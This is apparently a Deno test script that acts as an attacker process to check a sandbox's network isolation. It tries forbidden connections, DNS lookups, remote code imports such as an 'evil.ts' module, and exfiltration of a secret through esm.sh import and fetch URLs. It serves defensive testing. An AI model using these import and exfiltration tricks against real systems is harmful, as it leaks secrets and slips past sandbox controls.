// Attacker: reaches hosts and ports other than the router, resolves DNS,
// imports remote code. The router's hello gives the decoy port.
import { attempt, hello } from "./_attack.ts";

const { router, decoy } = await hello();
const routerPort = Number(router.split(":")[1]);
await attempt("router again", async () => {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port: routerPort });
  conn.close();
  return "connected";
});
await attempt("connect decoy port", () => Deno.connect({ hostname: "127.0.0.1", port: decoy }));
await attempt("connect 127.0.0.2", () => Deno.connect({ hostname: "127.0.0.2", port: routerPort }));
await attempt("fetch decoy", () => fetch(`http://127.0.0.1:${decoy}/`));
await attempt("websocket decoy", () => new WebSocket(`ws://127.0.0.1:${decoy}/`));
await attempt("listen", () => Deno.listen({ hostname: "127.0.0.1", port: 0 }));
await attempt("resolve dns", () => Deno.resolveDns("example.com", "A"));
// Computed specifiers: checked at run time (literal ones are refused before spawn).
const remote = (host: string) => import(["https:/", host, "x", "evil.ts"].join("/"));
await attempt("import remote (default-allowed host)", () => remote("deno.land"));
await attempt("import decoy", () => import(["http:/", `127.0.0.1:${decoy}`, "evil.ts"].join("/")));
// Exfiltration through a host Deno allows imports from by default (esm.sh):
// the secret would travel in the URL (and its DNS lookup).
await attempt("exfiltrate via import URL", () => remote("esm.sh/leak-secret"));
await attempt("exfiltrate via fetch", () => fetch("https://esm.sh/leak-secret"));
